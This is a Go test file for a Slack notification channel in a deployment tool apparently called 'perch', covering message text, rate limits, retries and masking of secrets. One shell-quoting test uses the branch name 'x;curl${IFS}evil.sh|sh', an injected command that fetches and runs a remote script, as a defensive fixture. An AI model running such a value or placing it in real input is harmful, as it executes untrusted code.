package slack

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"perch"
)

const commit = "1111111111111111111111111111111111111111"

// world is a Slack on this machine, with a channel to it, at noon.
type world struct {
	*Channel
	clock time.Time
	// asked are the environments that a run was asked to deliver again; askErr is the answer.
	asked  []string
	askErr error
	// later are the functions that wait for the clock.
	later []func()

	mu    sync.Mutex
	posts []string
	// answers are what Slack answers next, after that it answers ok.
	answers []func(http.ResponseWriter)
}

func newWorld(t *testing.T) *world {
	w := &world{clock: time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC)}
	server := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		var body struct{ Text string }
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil || r.Method != http.MethodPost ||
			r.Header.Get("Content-Type") != "application/json" {
			t.Errorf("%s with %s: %v", r.Method, r.Header.Get("Content-Type"), err)
		}
		w.mu.Lock()
		defer w.mu.Unlock()
		if len(w.answers) > 0 {
			answer := w.answers[0]
			w.answers = w.answers[1:]
			answer(rw)
			return
		}
		w.posts = append(w.posts, body.Text)
		_, _ = rw.Write([]byte("ok"))
	}))
	t.Cleanup(server.Close)
	w.Channel = New(server.URL+"/services/T0/B0/secret", func() time.Time { return w.clock })
	w.Redeliver = func(_ context.Context, environment perch.Environment) error {
		w.asked = append(w.asked, environment.Slug)
		return w.askErr
	}
	w.after = func(_ time.Duration, do func()) { w.later = append(w.later, do) }
	return w
}

func (w *world) answer(status int, body string, headers ...string) {
	w.answers = append(w.answers, func(rw http.ResponseWriter) {
		for i := 0; i < len(headers); i += 2 {
			rw.Header().Set(headers[i], headers[i+1])
		}
		rw.WriteHeader(status)
		_, _ = rw.Write([]byte(body))
	})
}

func (w *world) tell(card *perch.Card) { w.Deliver(context.Background(), card) }

// pass lets time go on, and then what waits.
func (w *world) pass(d time.Duration) {
	w.clock = w.clock.Add(d)
	waiting := w.later
	w.later = nil
	for _, do := range waiting {
		do()
	}
}

func (w *world) want(t *testing.T, posts ...string) {
	t.Helper()
	if diff := cmp.Diff(posts, w.posts); diff != "" {
		t.Errorf("posted (-want +got):\n%s", diff)
	}
}

func cardOf(t *testing.T, phase perch.Phase, change ...func(*perch.CardState)) *perch.Card {
	t.Helper()
	environment, err := perch.NewEnvironment("shop", "feature/login")
	if err != nil {
		t.Fatal(err)
	}
	card := &perch.Card{Environment: environment, State: perch.CardState{
		Goal: perch.GoalUp, Commit: commit, By: "ada", Phase: phase, RunID: "run-1", URL: "https://login.example.org",
	}}
	for _, each := range change {
		each(&card.State)
	}
	return card
}

func TestEndsOfRequestsAreTold(t *testing.T) {
	gone := func(s *perch.CardState) { s.Goal, s.Commit = perch.GoalGone, "" }
	for name, c := range map[string]struct {
		card *perch.Card
		want string
	}{
		"ready": {cardOf(t, perch.PhaseReady), "*feature/login* of shop is ready (1111111) at " +
			"<https://login.example.org|https://login.example.org>, requested by ada"},
		"failed": {
			cardOf(t, perch.PhaseFailed, func(s *perch.CardState) { s.Failure = "no <capacity> & @channel" }),
			"The deployment of *feature/login* of shop failed: no &lt;capacity&gt; &amp; @channel (1111111), " +
				"requested by ada",
		},
		"removal failed": {
			cardOf(t, perch.PhaseFailed, gone, func(s *perch.CardState) { s.Failure = "still there" }),
			"The removal of *feature/login* of shop failed: still there, requested by ada",
		},
		"rejected": {
			cardOf(t, perch.PhaseRejected, func(s *perch.CardState) { s.Sentence = "too many" }),
			"*feature/login* of shop is rejected: too many (1111111), requested by ada",
		},
		"removed": {
			cardOf(t, perch.PhaseGone, gone, func(s *perch.CardState) { s.Reason = "branch missing" }),
			"*feature/login* of shop is removed: branch missing, requested by ada",
		},
		"at work": {cardOf(t, perch.PhaseStack), ""},
		"skipped": {cardOf(t, perch.PhaseRejected, func(s *perch.CardState) { s.Outcome = perch.OutcomeSkipped }), ""},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			w.tell(c.card)
			w.tell(c.card) // It has been told.
			var posts []string
			if c.want != "" {
				posts = []string{c.want}
			}
			w.want(t, posts...)
			if c.card.Slack.Undelivered {
				t.Errorf("the card says %+v", c.card.Slack)
			}
		})
	}
}

func TestSecretsInFailuresAreMasked(t *testing.T) {
	w := newWorld(t)
	w.tell(cardOf(t, perch.PhaseFailed, func(s *perch.CardState) {
		s.Failure = "AWS_SECRET_ACCESS_KEY=" + strings.Repeat("k7", 20)
	}))
	if len(w.posts) != 1 || strings.Contains(w.posts[0], "k7k7") {
		t.Errorf("posted %q", w.posts)
	}
}

func TestWarningsAreToldOnce(t *testing.T) {
	w := newWorld(t)
	card := cardOf(t, perch.PhaseReady)
	w.tell(card)
	w.pass(time.Hour)
	end := w.clock.Add(24 * time.Hour)
	card.ExpiryWarning = &perch.ExpiryWarning{Deadline: end, End: end, Reason: "not used for 168h"}
	w.tell(card)
	w.pass(time.Hour)
	w.tell(card)
	w.want(t, w.posts[0], "*feature/login* of shop expires (not used for 168h) and is removed after 2026-11-23 13:00 "+
		"UTC. A push, or `perch extend feature/login`, keeps it.")
}

func TestCommandsInWarningsAreForAShell(t *testing.T) {
	for branch, want := range map[string]string{
		"x;curl${IFS}evil.sh|sh": "`perch extend 'x;curl${IFS}evil.sh|sh'`, keeps it.",
		"a`b":                    "or perch extend 'a`b', keeps it.",
	} {
		environment, err := perch.NewEnvironment("shop", branch)
		if err != nil {
			t.Fatal(err)
		}
		if said := warningLine(
			perch.Card{Environment: environment}, perch.ExpiryWarning{},
		); !strings.Contains(said, want) {
			t.Errorf("%s: %s", branch, said)
		}
	}
	if said := warningLine(
		*cardOf(t, perch.PhaseReady), perch.ExpiryWarning{Longest: true},
	); !strings.Contains(said, "`perch pin feature/login --reason WHY` keeps it.") {
		t.Error(said)
	}
}

// TestOneMessageAMinuteForEachEnvironment: the newest wins, and the last is not lost. A run
// delivers a message that comes too early once the minute is over.
func TestOneMessageAMinuteForEachEnvironment(t *testing.T) {
	w := newWorld(t)
	card := cardOf(t, perch.PhaseFailed)
	w.tell(card)
	for _, run := range []string{"run-2", "run-3"} {
		w.clock = w.clock.Add(10 * time.Second)
		card.State.RunID, card.State.Phase = run, perch.PhaseReady
		if w.tell(card); !card.Slack.Undelivered || card.Slack.Problem != "" {
			t.Errorf("a message that waits: %+v", card.Slack)
		}
	}
	other := cardOf(t, perch.PhaseReady)
	other.Environment.Slug = "other"
	w.tell(other)
	if len(w.posts) != 2 || len(w.asked) > 0 {
		t.Fatalf("posted %q, asked %q", w.posts, w.asked)
	}
	w.pass(40 * time.Second)
	if diff := cmp.Diff([]string{card.Environment.Slug}, w.asked); diff != "" || len(w.posts) != 2 || len(w.later) > 0 {
		t.Fatalf("posted %q, %d wait, asked (-want +got):\n%s", w.posts, len(w.later), diff)
	}
	if w.tell(card); len(w.posts) != 3 || card.Slack.Undelivered {
		t.Errorf("posted %q, the card says %+v", w.posts, card.Slack)
	}
	w.pass(10 * time.Minute)
	if w.tell(card); len(w.posts) != 3 || len(w.asked) != 1 {
		t.Errorf("posted %q, asked %q", w.posts, w.asked)
	}
}

// TestARunThatCannotBeAskedLeavesTheMessageToTheSweep: the card still says that it is undelivered,
// and the next message that comes too early asks again.
func TestARunThatCannotBeAskedLeavesTheMessageToTheSweep(t *testing.T) {
	w := newWorld(t)
	w.askErr = errors.New("Temporal does not answer")
	card := cardOf(t, perch.PhaseFailed)
	w.tell(card)
	for asked, run := range []string{"run-2", "run-3"} {
		card.State.RunID = run
		w.tell(card)
		for _, do := range w.later {
			do()
		}
		if w.later = nil; len(w.asked) != asked+1 || len(w.posts) != 1 || !card.Slack.Undelivered {
			t.Errorf("asked %q, posted %q, the card says %+v", w.asked, w.posts, card.Slack)
		}
	}
}

func TestWhatSlackDoesNotTakeIsToldAgain(t *testing.T) {
	w := newWorld(t)
	card := cardOf(t, perch.PhaseReady)
	for _, refusal := range []struct {
		status  int
		body    string
		problem string
	}{
		{404, "no_service", "Slack was not told: the webhook answers 404: no_service"},
		{500, "", "Slack was not told: the webhook answers 500: "},
		{200, "invalid", "Slack was not told: the webhook answers 200: invalid"},
	} {
		w.answer(refusal.status, refusal.body)
		w.tell(card)
		if !card.Slack.Undelivered || card.Slack.Problem != refusal.problem {
			t.Errorf("after %d the card says %+v", refusal.status, card.Slack)
		}
		if _, err := w.Check(t.Context()); err == nil || !strings.Contains(err.Error(), "was not delivered") {
			t.Errorf("doctor says %v", err)
		}
	}
	w.tell(card)
	if len(w.posts) != 1 || card.Slack.Undelivered || card.Slack.Problem != "" {
		t.Errorf("posted %q, the card says %+v", w.posts, card.Slack)
	}
	if said, err := w.Check(t.Context()); err != nil || said == "" {
		t.Errorf("doctor says %q, %v", said, err)
	}
}

func TestRetryAfterIsHonoured(t *testing.T) {
	w := newWorld(t)
	card := cardOf(t, perch.PhaseReady)
	w.answer(429, "rate_limited", "Retry-After", "90")
	w.tell(card)
	w.clock = w.clock.Add(89 * time.Second)
	w.tell(card)
	if len(w.posts) != 0 || card.Slack.Problem != "Slack was not told: the webhook takes no messages for another 1s" {
		t.Errorf("posted %q, the card says %+v", w.posts, card.Slack)
	}
	w.clock = w.clock.Add(time.Second)
	if w.tell(card); len(w.posts) != 1 || card.Slack.Undelivered {
		t.Errorf("posted %q, the card says %+v", w.posts, card.Slack)
	}
}

func TestAHeldCleanupIsToldOnceForEachPlan(t *testing.T) {
	w := newWorld(t)
	brake := perch.CleanupBrake{Reason: "12 removals are more than 10", Hash: "abc"}
	w.answer(500, "")
	for range 3 {
		w.TellHeld(t.Context(), "shop", brake)
	}
	brake.Hash = "def"
	w.TellHeld(t.Context(), "shop", brake)
	text := "Cleanup of *shop* is held: 12 removals are more than 10. `perch cleanup --dry-run` shows the plan, and " +
		"`perch cleanup approve "
	w.want(t, text+"abc` carries it out.", text+"def` carries it out.")
}

func TestTheAddressIsNeverSaid(t *testing.T) {
	for webhook, want := range map[string]string{
		"":                                   "has no PERCH_SLACK_WEBHOOK",
		"hooks.slack.com/secret":             "is not the address of a webhook",
		"http://hooks.slack.com/secret":      "is not the address of a webhook",
		"https://hooks.slack.com\x7f/secret": "is not the address of a webhook",
		"http://127.0.0.1:1/secret":          "the webhook does not answer",
	} {
		channel := New(webhook, time.Now)
		card := cardOf(t, perch.PhaseReady)
		channel.Deliver(t.Context(), card)
		if !card.Slack.Undelivered || !strings.Contains(card.Slack.Problem, want) ||
			strings.Contains(card.Slack.Problem, "/secret") {
			t.Errorf("%q: the card says %+v", webhook, card.Slack)
		}
		if _, err := channel.Check(t.Context()); err == nil || strings.Contains(err.Error(), "/secret") {
			t.Errorf("%q: doctor says %v", webhook, err)
		}
	}
}
